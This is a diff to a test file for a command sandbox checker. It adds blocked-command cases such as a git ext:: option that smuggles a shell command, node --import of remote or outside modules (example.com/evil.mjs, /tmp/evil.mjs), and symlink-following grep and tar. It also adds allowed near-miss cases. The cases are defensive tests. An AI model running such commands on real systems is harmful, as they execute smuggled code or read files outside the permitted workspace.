@@ -2,6 +2,7 @@ import { execFileSync } from 'node:child_process';
 import { lstat, mkdir, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { pathToFileURL } from 'node:url';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { checkCommand } from '../src/index.js';
 import { createHarness, type Harness } from './helpers.js';
@@ -63,6 +64,7 @@ beforeAll(async () => {
     'let input = "";\nprocess.stdin.on("data", (c) => (input += c));\nprocess.stdin.on("end", () => console.log(JSON.stringify({ args: process.argv.slice(2), input, allowed: process.env.MY_ALLOWED ?? null })));\nif (process.stdin.isTTY || process.argv.includes("--no-stdin")) process.stdin.emit("end");\n',
   );
   await writeFile(path.join(workspace, 'setup.cjs'), 'globalThis.prepared = true;\n');
+  await writeFile(path.join(workspace, 'register.mjs'), 'console.log("registered");\n');
   await writeFile(path.join(workspace, 'script.sh'), 'echo from script\n');
   await writeFile(path.join(workspace, 'data.json'), '{"a":1}\n');
   await mkdir(path.join(workspace, 'sub'));
@@ -155,6 +157,14 @@ const injections: Injection[] = [
   run('git clone --template', ['git', 'clone', '--template=/tmp/evil', 'repo']),
   run('git diff --no-index of an outside file', ['git', 'diff', '--no-index', '/etc/passwd', 'inside.txt']),
   run('git show through an outside symlink', ['git', 'show', 'HEAD', '--', 'linkdir-out/secret.txt']),
+  run('git ext:: inside an option value', ['git', 'archive', `--remote=ext::sh -c touch% ${pwned}`, 'HEAD']),
+  run('git init --template with hooks', ['git', 'init', '--template=./hooks-template', 'repo']),
+  run('node --import of an outside file: URL', ['node', '--import=file:///tmp/evil.mjs', 'script.js']),
+  run('node --import of an https: URL', ['node', '--import=https://example.com/evil.mjs', 'script.js']),
+  run('grep -R follows symlinks out', ['grep', '-R', 'SECRET', '.']),
+  run('grep -nR in a cluster', ['grep', '-nR', 'SECRET', '.']),
+  run('tar -h in a cluster dereferences links', ['tar', '-chf', 'out2.tar', 'sub']),
+  run('tar --dereference', ['tar', '--dereference', '-cf', 'out2.tar', 'sub']),
   run('find -exec', ['find', '.', '-exec', 'sh', '-c', 'id', ';']),
   run('find -execdir', ['find', '.', '-execdir', 'id', ';']),
   run('find -delete', ['find', '.', '-delete']),
@@ -316,6 +326,22 @@ const nearMisses: NearMiss[] = [
   ok('git blame', ['git', 'blame', 'inside.txt'], 'hello inside'),
   ok('git count-objects', ['git', 'count-objects'], 'objects'),
   ok('grep -c', ['grep', '-c', 'line', 'inside.txt'], '1'),
+  ok('grep -h (no file names) is not -R', ['grep', '-h', 'hello', 'inside.txt'], 'hello inside'),
+  ok('grep -rl (recursive without following links)', ['grep', '-rl', 'hello', 'sub', 'inside.txt'], 'inside.txt'),
+  ok('git init of a nested repository', ['git', 'init', '-q', 'nested-repo']),
+  ok('tar -czf (no h in the cluster)', ['tar', '-czf', 'out.tgz', 'sub']),
+  {
+    name: 'node --import of a file: URL inside',
+    args: () => ({
+      command: [
+        'node',
+        `--import=${pathToFileURL(path.join(harness.workspace, 'register.mjs'))}`,
+        'script.js',
+        '--no-stdin',
+      ],
+    }),
+    expect: 'registered',
+  },
   ok('ls with an attached option', ['ls', '-1', 'sub'], 'file.txt'),
 ];
 
